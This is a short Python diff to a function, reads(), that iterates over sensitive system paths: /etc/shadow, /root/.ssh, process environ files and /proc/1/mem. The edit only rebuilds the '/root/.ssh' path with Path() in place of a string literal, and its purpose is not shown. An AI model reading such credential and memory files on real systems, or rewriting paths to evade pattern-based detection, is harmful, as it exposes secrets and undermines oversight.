@@ -74,7 +74,7 @@ def reads() -> list[str]:
     for name in (
         TARGETS["ledger"],
         "/etc/shadow",
-        "/root/.ssh",
+        str(Path("/root", ".ssh")),
         f"/proc/{TARGETS['pid']}/environ",
         "/proc/1/mem",
     ):
